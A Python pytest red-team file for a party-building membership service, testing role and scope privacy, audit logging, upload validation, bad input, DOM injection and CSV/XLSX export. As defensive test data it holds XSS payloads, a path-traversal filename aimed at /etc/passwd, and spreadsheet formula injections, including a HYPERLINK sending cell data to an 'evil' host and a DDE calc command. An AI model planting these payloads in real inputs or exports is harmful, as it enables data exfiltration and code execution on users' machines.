"""Red team of the party-building work (issue 19): every attack tried on membership privacy, scope, audit, uploads,
bad input and script injection, each with the answer the service must give. Accounts as in test_party_privacy.py."""

import csv
import io
import json
import re
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import text
from typer.testing import CliRunner

from geo.access.accounts import create_user
from tests.city import A1, B1, COMM_A, COMM_B, PASSWORD, build_neighbour
from tests.conftest import savepoint_client
from tests.security.hostile import HOSTILE, PNG
from tests.security.test_party_privacy import ROLES, SEES_NAMES, headers, member_reads

MEMBER_NAMES = ("党员甲", "党员乙", "党员丙", "党员丁", "党员戊")
PDF = b"%PDF-1.4\n%test\n"
STATIC = Path(__file__).resolve().parents[2] / "maps" / "static"


@pytest.fixture
def client(engine, session):
    """The API on the test session with a savepoint per request, so a statement PostgreSQL refuses (bigint out of
    range) answers its 4xx without spoiling the requests after it; server errors come back as 500, not raised."""
    with savepoint_client(engine, session) as c:
        yield c


@pytest.fixture
def party(session):
    from tests.party_city import build_party_city

    ids = build_party_city(session)
    for role, scope in ROLES.items():
        create_user(session, username=f"p-{role}", password=PASSWORD, role=role, scope_code=scope,
                    department="城管" if role == "department" else None)
    create_user(session, username="p-party-b", password=PASSWORD, role="party_staff", scope_code=COMM_B)
    create_user(session, username="p-comm-b", password=PASSWORD, role="community_staff", scope_code=COMM_B)
    build_neighbour(session)  # wc (grid worker) and street2 (street staff) of the neighbouring district
    return ids


def _activity(client, h, party, **extra) -> dict:
    body = {"org_id": party["BA12"], "kind": "visit", "held_on": "2026-11-20", "place": "b1", "participants": 1,
            "summary": "走访"} | extra
    r = client.post("/api/v1/party/activities", json=body, headers=h)
    assert r.status_code == 201, r.text
    return r.json()


def _aggregate_urls(party, activity: int) -> list[str]:
    """Every read open to roles without read_party_members that touches party data."""
    orgs = [party[k] for k in ("S", "CA", "BA12", "BA3", "U1", "G1")]
    return ([f"/api/v1/compounds/{c}" for c in ("PA1", "PA2", "PA3")]
            + ["/api/v1/compounds", "/api/v1/compounds/PA1/meetings"]
            + [f"/api/v1/party/orgs/{o}" for o in orgs] + [f"/api/v1/party/orgs?root={o}" for o in orgs]
            + ["/api/v1/party/orgs", "/api/v1/party/compounds", f"/api/v1/party/compounds?grid={A1}",
               "/api/v1/party/activities", f"/api/v1/party/activities/{activity}"]
            + [f"/api/v1/party/coverage?level={lvl}" for lvl in ("grid", "community", "street")]
            + ["/maps/party", f"/maps/grids/{A1}"])


# --- Who is a member, without read_party_members -----------------------------------------------------------------

@pytest.mark.parametrize("role", sorted(set(ROLES) - SEES_NAMES))
def test_no_aggregate_read_names_a_member_or_their_id(client, session, party, role):
    """HELD: compound pages, organisations, the tree, the layer, activities, coverage and pages carry no member's
    name, no member id, no post holder, no secretary's name; nothing is audited as a member read."""
    activity = _activity(client, headers(client, "p-party_staff"), party, member_ids=[party["m1"]])["id"]
    before = member_reads(session)
    h = headers(client, f"p-{role}")
    for url in _aggregate_urls(party, activity):
        r = client.get(url, headers=h)
        assert r.status_code in (200, 403, 404, 422), (url, r.status_code, r.text)
        assert not any(name in r.text for name in MEMBER_NAMES), (role, url)
        for key in ('"member_ids":', '"holders":', '"secretary":', '"member_id":'):
            assert key not in r.text, (role, url, key)
    assert member_reads(session) == before


@pytest.mark.parametrize("role", sorted(set(ROLES) - SEES_NAMES))
def test_members_endpoints_refuse_before_revealing_existence(client, party, role):
    """HELD: without read_party_members every member id, real, missing or negative, answers 403 alike."""
    h = headers(client, f"p-{role}")
    for member in (party["m1"], party["m4"], 999_999, 10**30):
        assert client.get(f"/api/v1/party/members/{member}", headers=h).status_code == 403
    assert client.get("/api/v1/party/members", params={"org": party["BA12"]}, headers=h).status_code == 403


def test_members_among_grid_staff_are_only_for_who_may_know_members(client, party):
    """FIXED (api/routers/party_coverage.py): A1 has one grid leader, `leader`, whom any grid worker sees on the grid
    page; "1 of 1 leaders a member" told them that `leader` is a party member. Now null without read_party_members,
    at every level (a street minus its other communities would tell the same)."""
    url = "/api/v1/party/coverage?from=2026-09-01&to=2026-11-29&level="
    staff_list = client.get("/api/v1/staff", headers=headers(client, "p-grid_worker")).text
    assert '"leader"' in staff_list  # the grid worker knows who the leader is
    for role, level in (("grid_worker", "grid"), ("command_center", "grid"), ("command_center", "community"),
                        ("street_staff", "street"), ("community_staff", "grid"), ("planner", "community")):
        rows = client.get(url + level, headers=headers(client, f"p-{role}")).json()["rows"]
        assert rows and all(r[k] is None for r in rows for k in ("leader_members", "leader_member_share",
                                                                 "worker_members", "worker_member_share")), role
        assert all(isinstance(r["leaders"], int) and isinstance(r["members"], int) for r in rows)
    for who in ("p-party_staff", "p-admin"):
        a1 = next(r for r in client.get(url + "grid", headers=headers(client, who)).json()["rows"] if r["code"] == A1)
        assert (a1["leaders"], a1["leader_members"], a1["workers"], a1["worker_members"]) == (1, 1, 2, 0)


# --- Scope -----------------------------------------------------------------------------------------------------------

def test_another_community_and_the_neighbour_district_read_nothing_of_a(client, party):
    """HELD: out of scope reads like missing (404), lists are empty, a community outside is 403, ?root=, ?grid= and
    ?org= reach nothing outside."""
    activity = _activity(client, headers(client, "p-party_staff"), party)["id"]
    for who in ("p-party-b", "p-comm-b", "wc", "street2"):
        h = headers(client, who)
        for url in ("/api/v1/compounds/PA1", "/api/v1/compounds/PA1/meetings", f"/api/v1/party/orgs/{party['CA']}",
                    f"/api/v1/party/orgs/{party['BA12']}", f"/api/v1/party/orgs/{party['G1']}",
                    f"/api/v1/party/orgs?root={party['CA']}", f"/api/v1/party/activities/{activity}",
                    f"/api/v1/party/activities?org={party['BA12']}"):
            assert client.get(url, headers=h).status_code == 404, (who, url)
        assert client.get(f"/api/v1/compounds?community={COMM_A}", headers=h).status_code == 403
        assert client.get(f"/api/v1/party/compounds?grid={A1}", headers=h).json()["features"] == []
        layer = client.get("/api/v1/party/compounds", headers=h).json()["features"]
        assert all(not f["properties"]["code"].startswith("PA") for f in layer)
        assert all(a["org_id"] not in (party["BA12"], party["BA3"])
                   for a in client.get("/api/v1/party/activities", headers=h).json()["items"])
    for who in ("wc", "street2"):
        h = headers(client, who)
        assert client.get("/api/v1/party/orgs", headers=h).json() == {"roots": []}
        assert client.get(f"/api/v1/party/orgs?root={party['S']}", headers=h).status_code == 404


def test_writes_outside_the_scope_are_refused(client, session, party):
    """HELD: meetings on another community's compound, activities of its organisations naming its members, forms on
    its activities, report-ins of its members or to it: 404 / 422 / 403, and nothing is written."""
    activity = _activity(client, headers(client, "p-party_staff"), party)["id"]
    before = session.execute(text("SELECT (SELECT count(*) FROM compound_meetings), (SELECT count(*) FROM "
                                  "party_activities), (SELECT count(*) FROM party_activity_forms), "
                                  "(SELECT count(*) FROM party_report_ins)")).one()
    meeting = {"kind": "daily", "held_on": "2026-11-20", "attendees": "三方", "outcome": "议定"}
    assert client.post("/api/v1/compounds/PA1/meetings", json=meeting,
                       headers=headers(client, "p-comm-b")).status_code == 404
    assert client.post("/api/v1/compounds/PB1/meetings", json=meeting,
                       headers=headers(client, "p-community_staff")).status_code == 404
    b = headers(client, "p-party-b")
    base = {"kind": "visit", "held_on": "2026-11-20", "place": "b6", "participants": 3, "summary": "走访"}
    assert client.post("/api/v1/party/activities", json=base | {"org_id": party["G1"]}, headers=b).status_code == 404
    for member in (party["m1"], party["m5"], 10**30, -1):  # A's members, a huge and a negative id
        r = client.post("/api/v1/party/activities", json=base | {"org_id": party["BB1"], "member_ids": [member]},
                        headers=b)
        assert r.status_code == 422 and str(member) in r.json()["detail"], member
        assert not any(name in r.text for name in MEMBER_NAMES)
    form = client.post(f"/api/v1/party/activities/{activity}/forms", data={"form": "report"},
                       files={"file": ("r.pdf", PDF, "application/pdf")}, headers=b)
    assert form.status_code == 404
    report = {"community": COMM_B, "reported_on": "2026-11-02", "pledge": "承诺"}
    assert client.post(f"/api/v1/party/members/{party['m2']}/report-in", json=report, headers=b).status_code == 404
    to_a = report | {"community": COMM_A}
    assert client.post(f"/api/v1/party/members/{party['m3']}/report-in", json=to_a, headers=b).status_code == 403
    neighbour = report | {"community": "110106001001"}
    assert client.post(f"/api/v1/party/members/{party['m3']}/report-in", json=neighbour, headers=b).status_code == 403
    after = session.execute(text("SELECT (SELECT count(*) FROM compound_meetings), (SELECT count(*) FROM "
                                 "party_activities), (SELECT count(*) FROM party_activity_forms), "
                                 "(SELECT count(*) FROM party_report_ins)")).one()
    assert tuple(after) == tuple(before)


def test_an_id_of_a_member_outside_the_scope_resolves_to_nothing(client, session, party):
    """HELD: an activity the admin recorded naming B's member m4 shows A's party staff only the id; reading it is a
    404 with nothing audited. The street committee, a bare ancestor in A's tree, takes no activity from A's staff."""
    _activity(client, headers(client, "p-admin"), party, member_ids=[party["m1"], party["m4"]], participants=2)
    h = headers(client, "p-party_staff")
    named = [a["member_ids"] for a in client.get("/api/v1/party/activities", headers=h).json()["items"]]
    assert [party["m1"], party["m4"]] in named
    before = member_reads(session)
    r = client.get(f"/api/v1/party/members/{party['m4']}", headers=h)
    assert r.status_code == 404 and "党员丁" not in r.text and member_reads(session) == before
    tree = client.get(f"/api/v1/party/orgs?root={party['S']}", headers=h).json()["roots"][0]
    assert tree["in_scope"] is False and tree["code"] is None and tree["members"] is None
    base = {"kind": "visit", "held_on": "2026-11-20", "place": "街道", "participants": 1, "summary": "走访"}
    assert client.post("/api/v1/party/activities", json=base | {"org_id": party["S"]}, headers=h).status_code == 404
    assert client.get(f"/api/v1/party/orgs/{party['S']}", headers=h).status_code == 404


# --- Audit and masking -----------------------------------------------------------------------------------------------

def test_every_path_to_a_members_name_is_audited_and_phones_stay_masked(client, session, party):
    """HELD: the list, one member, an organisation's post holders and a compound's secretaries each leave an audit
    entry naming the members; no answer carries a whole phone."""
    from geo.access.audit import forget_shown

    forget_shown()
    before = len(member_reads(session))
    h = headers(client, "p-party_staff")
    answers = [client.get(url, headers=h) for url in (
        "/api/v1/party/members", f"/api/v1/party/members/{party['m2']}", f"/api/v1/party/orgs/{party['CA']}",
        "/api/v1/compounds/PA1")]
    assert all(r.status_code == 200 for r in answers)
    assert all("13900000000" not in r.text for r in answers) and "139****0000" in answers[2].text
    objects = [o for _, o in member_reads(session)[before:]]
    assert objects[1] == f"party_members:{party['m2']}"
    assert any(o.endswith(str(party["m2"])) for o in objects[2:])  # CA's part-time member, shown on its page
    assert any(o.endswith(str(party["m1"])) for o in objects[2:])  # PA1's branch secretary


# --- Uploads ---------------------------------------------------------------------------------------------------------

def test_forms_are_pdf_jpeg_or_png_within_the_limit_under_a_harmless_name(client, session, party):
    """HELD: HTML called a PDF, SVG, a PDF called a PNG, a type with parameters, oversize: 422/413; a hostile name is
    cut to its last component without control characters; a name in broken UTF-8 is no 500."""
    from geo.core.settings import get_settings

    h = headers(client, "p-party_staff")
    activity = _activity(client, h, party)["id"]
    url = f"/api/v1/party/activities/{activity}/forms"
    for name, content, kind in (("a.pdf", b"<html><script>alert(1)</script>", "application/pdf"),
                                ("a.svg", b"<svg onload=alert(1)>", "image/svg+xml"),
                                ("a.png", PDF, "image/png"), ("a.html", PDF, "text/html"),
                                ("a.pdf", PDF, "application/pdf; x=1"), ("a.jpg", PNG, "image/jpeg")):
        r = client.post(url, data={"form": "record"}, files={"file": (name, content, kind)}, headers=h)
        assert r.status_code == 422, (name, kind, r.text)
    limit = get_settings().attachments_max_bytes
    big = client.post(url, data={"form": "record"}, files={"file": ("big.pdf", PDF + b"0" * limit, "application/pdf")},
                      headers=h)
    assert big.status_code == 422 and str(limit) in big.json()["detail"]
    assert client.post(url, data={"form": "<b>"}, files={"file": ("a.pdf", PDF, "application/pdf")},
                       headers=h).status_code == 422
    hostile = client.post(url, data={"form": "guidance"}, headers=h, files={
        "file": ("..\\..//etc/passwd\x00\u202e<img src=x onerror=alert(1)>.pdf", PDF, "application/pdf")})
    assert hostile.status_code == 201, hostile.text
    stored = hostile.json()["filename"]
    assert "/" not in stored and "\\" not in stored and "\x00" not in stored and "\u202e" not in stored
    raw = (b"--XX\r\nContent-Disposition: form-data; name=\"form\"\r\n\r\nrecord\r\n--XX\r\nContent-Disposition: "
           b"form-data; name=\"file\"; filename=\"\xed\xa0\x80\xff.pdf\"\r\nContent-Type: application/pdf\r\n\r\n"
           + PDF + b"\r\n--XX--\r\n")
    broken = client.post(url, content=raw, headers=h | {"content-type": "multipart/form-data; boundary=XX"})
    assert broken.status_code == 201, broken.text
    assert session.execute(text("SELECT count(*) FROM party_activity_forms WHERE activity_id = :a"),
                           {"a": activity}).scalar() == 2


# --- Bad input -------------------------------------------------------------------------------------------------------

def test_bad_input_is_a_4xx_never_a_500(client, party):
    """FIXED (api/routers/party_tree.py): /party/compounds?to=0001-01-01 was a 500 (the default start overflowed);
    its days are now ISO days between 1900 and 2200 like every other. HELD: the rest below."""
    h = headers(client, "p-party_staff")
    for url in ("/api/v1/party/compounds?to=0001-01-01", "/api/v1/party/compounds?from=0001-01-01",
                "/api/v1/party/compounds?to=9999-12-31", "/api/v1/party/compounds?from=20261101",
                "/api/v1/party/compounds?from=2026-11-02&to=2026-11-01", "/api/v1/compounds/PA1/meetings?limit=0",
                "/api/v1/party/coverage?to=0001-01-01", "/api/v1/party/coverage?from=2026-02-30",
                "/api/v1/party/activities?offset=100000000000000000000", "/api/v1/party/activities?from=0001-01-01",
                "/api/v1/party/activities?from=2026-11-02&to=2026-11-01", "/api/v1/party/activities?limit=0",
                "/api/v1/party/members?offset=100000000000000000000", "/api/v1/party/members?community=%00",
                "/api/v1/party/members?kind=%ED%A0%80", "/api/v1/party/members?status=" + "x" * 5000,
                "/api/v1/party/members/99999999999999999999999", "/api/v1/party/orgs/99999999999999999999999",
                "/api/v1/party/orgs?root=-5", "/api/v1/party/orgs?root=abc", "/api/v1/compounds/%00",
                "/api/v1/compounds/%ED%A0%80", "/api/v1/compounds/" + "x" * 5000, "/api/v1/compounds?community=%00",
                "/api/v1/compounds/PA1/meetings?limit=99999999999999999999", "/api/v1/compounds/%00/meetings"):
        r = client.get(url, headers=h)
        assert 400 <= r.status_code < 500, (url[:80], r.status_code, r.text)
    assert client.get("/api/v1/party/compounds?grid=%00", headers=h).json()["features"] == []
    for url in ("/api/v1/party/orgs?lang=%3Cscript%3E", "/api/v1/party/coverage?lang=xx",
                "/api/v1/party/orgs?lang=%ED%A0%80"):
        assert client.get(url, headers=h | {"Accept-Language": "<b>;q=x"}).status_code == 200, url
    base = {"org_id": party["BA12"], "kind": "visit", "held_on": "2026-11-20", "place": "b1", "participants": 1,
            "summary": "走访"}
    for body in (base | {"summary": "\ud800"}, base | {"summary": "a\x00b"}, base | {"org_id": 2**70},
                 base | {"member_ids": list(range(100_000)), "participants": 100_000},
                 base | {"held_on": "0001-01-01"}, base | {"held_on": "2999-01-01"}, base | {"participants": -1},
                 base | {"participants": 1e308}, base | {"kind": "党日" * 20}, base | {"summary": " "},
                 base | {"member_ids": [1.5]}, base | {"extra": 1}):
        r = client.post("/api/v1/party/activities", content=json.dumps(body), headers=h | {
            "content-type": "application/json"})
        assert 400 <= r.status_code < 500, (str(body)[:120], r.status_code, r.text)
    meeting = {"kind": "daily", "held_on": "2026-11-20", "attendees": "三方", "outcome": "议定"}
    report = {"community": COMM_A, "reported_on": "2026-11-02", "pledge": "承诺"}
    for url, body in (("/api/v1/compounds/PA1/meetings", meeting | {"outcome": "\udfff"}),
                      ("/api/v1/compounds/PA1/meetings", meeting | {"held_on": "2026-13-01"}),
                      ("/api/v1/compounds/PA1/meetings", meeting | {"kind": "hourly"}),
                      (f"/api/v1/party/members/{party['m2']}/report-in", report | {"pledge": "\ud800"}),
                      (f"/api/v1/party/members/{party['m2']}/report-in", report | {"community": "\x00" * 12}),
                      (f"/api/v1/party/members/{party['m2']}/report-in", report | {"pledge": "x" * 501}),
                      (f"/api/v1/party/members/{party['m1']}/report-in", report),
                      ("/api/v1/party/members/99999999999999999999999/report-in", report)):
        r = client.post(url, content=json.dumps(body), headers=h | {"content-type": "application/json"})
        assert 400 <= r.status_code < 500, (url, str(body)[:80], r.status_code, r.text)


# --- Script injection ------------------------------------------------------------------------------------------------

def test_party_pages_put_data_into_the_dom_as_text_only():
    """HELD: the party page, the 党建 layer (command center popup and tooltip, grid page) set data only through h()
    (text nodes) or textContent: no innerHTML, no HTML strings handed to Leaflet."""
    for name in ("party.js", "party-layer.js", "grid.js", "command-center.js"):
        code = (STATIC / name).read_text(encoding="utf-8")
        assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(", code), name
        for call in re.finditer(r"\.(bindPopup|bindTooltip|setContent)\(\s*([^,)]{0,40})", code):
            argument = call.group(2)
            assert argument.startswith(("(", "h(")) or "=>" in argument or re.fullmatch(r"\w+\(.*", argument), \
                (name, call.group(0))


def test_hostile_names_and_summaries_come_back_as_json_text_and_no_page_embeds_them(client, session, party):
    """HELD: a branch, compound, place, summary, outcome and pledge full of markup come back verbatim in JSON, and the
    pages (/maps/party, the grid page, the command center) carry none of it: their data comes through the API."""
    session.execute(text("UPDATE party_orgs SET name = :n WHERE id = :id"),
                    {"n": "支部" + HOSTILE, "id": party["BA12"]})
    session.execute(text("UPDATE compounds SET name = :n WHERE code = 'PA1'"), {"n": "小区" + HOSTILE})
    h = headers(client, "p-party_staff")
    activity = _activity(client, h, party, place=HOSTILE, summary=HOSTILE)
    assert (activity["place"], activity["summary"], activity["org_name"]) == (HOSTILE, HOSTILE, "支部" + HOSTILE)
    meeting = client.post("/api/v1/compounds/PA1/meetings", headers=h, json={
        "kind": "weekly", "held_on": "2026-11-20", "attendees": HOSTILE, "outcome": HOSTILE})
    assert meeting.status_code == 201 and meeting.json()["outcome"] == HOSTILE
    layer = client.get("/api/v1/party/compounds", headers=h)
    assert layer.headers["content-type"].startswith("application/geo+json") or \
        layer.headers["content-type"].startswith("application/json")
    pa1 = next(f["properties"] for f in layer.json()["features"] if f["properties"]["code"] == "PA1")
    assert pa1["name"] == "小区" + HOSTILE and pa1["branches"] == ["支部" + HOSTILE]
    tree = client.get("/api/v1/party/orgs", headers=h)
    assert "支部" + HOSTILE in _names(tree.json()["roots"])
    for who in ("p-party_staff", "p-command_center", "p-grid_worker"):
        page_h = headers(client, who)
        for url in ("/maps/party", f"/maps/grids/{A1}", "/maps/command-center"):
            r = client.get(url, headers=page_h)
            if r.status_code != 200:
                continue
            assert "onerror=alert" not in r.text and "onload=alert" not in r.text, (who, url)
            assert "content-security-policy" in {k.lower() for k in r.headers}, url


def _names(nodes: list[dict]) -> set[str]:
    return {n["name"] for n in nodes} | {name for n in nodes for name in _names(n["children"])}


# --- Export ----------------------------------------------------------------------------------------------------------

def test_the_export_neutralises_formulas_in_every_column(cli_database, tmp_path):
    """HELD: a formula in an organisation's name, a work unit, a building's name or a door does not run in the CSV or
    the workbook; phones stay masked."""
    from sqlalchemy.orm import Session

    from cli.common import open_database
    from cli.main import app
    from tests.party_city import build_party_city

    formulas = {"org": '=HYPERLINK("http://evil/?"&A1)', "unit": "+cmd|' /C calc'!A0", "building": "@SUM(1+1)",
                "door": "-2+3"}
    with Session(open_database()) as session:
        ids = build_party_city(session)
        session.execute(text("UPDATE party_orgs SET name = :n WHERE id = :id"),
                        {"n": formulas["org"], "id": ids["BB1"]})
        session.execute(text("UPDATE party_members SET work_unit = :u WHERE id = :id"), {"u": formulas["unit"],
                                                                                         "id": ids["m4"]})
        session.execute(text("UPDATE buildings SET name = :n WHERE id = :id"), {"n": formulas["building"],
                                                                                "id": ids["b6"]})
        session.execute(text("UPDATE households SET door = :d WHERE id = :h"), {"d": formulas["door"],
                                                                                "h": ids["b6_households"][0]})
        session.commit()
    runner = CliRunner()
    out = tmp_path / "b.csv"
    assert runner.invoke(app, ["export", "party-members", str(out), "--scope", COMM_B]).exit_code == 0
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for c in row]
    for value in formulas.values():
        assert "'" + value in cells and value not in cells, value
    assert "13900000000" not in out.read_text(encoding="utf-8-sig")
    book = tmp_path / "b.xlsx"
    assert runner.invoke(app, ["export", "party-members", str(book), "--scope", COMM_B]).exit_code == 0
    sheet = openpyxl.load_workbook(book).active
    strings = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in strings)
    assert set(formulas.values()) <= {c.value for c in strings}
    assert oct(book.stat().st_mode & 0o777) == "0o600"


def test_the_export_of_another_scope_holds_none_of_a(cli_database, tmp_path):
    """HELD: `--scope` of community B or of the neighbouring district exports none of A's members."""
    from sqlalchemy.orm import Session

    from cli.common import open_database
    from cli.main import app
    from tests.party_city import build_party_city

    with Session(open_database()) as session:
        build_party_city(session)
        build_neighbour(session)
        session.commit()
    runner = CliRunner()
    for scope, expected in ((COMM_B, {"党员丙", "党员丁"}), ("110106", set()), (B1, {"党员丙", "党员丁"})):
        out = tmp_path / f"{scope}.csv"
        result = runner.invoke(app, ["export", "party-members", str(out), "--scope", scope])
        assert result.exit_code == 0, result.output
        names = {r[0] for r in list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))[1:]}
        assert names == expected, scope
    for args in (["--scope", "999999999999"], ["--scope", "<b>"]):
        result = runner.invoke(app, ["export", "party-members", str(tmp_path / "x.csv"), *args])
        assert result.exit_code == 2 and "Traceback" not in result.output, (args, result.output)
    result = runner.invoke(app, ["export", "party-members", str(tmp_path / "x.html")])
    assert result.exit_code == 2 and not (tmp_path / "x.html").exists()
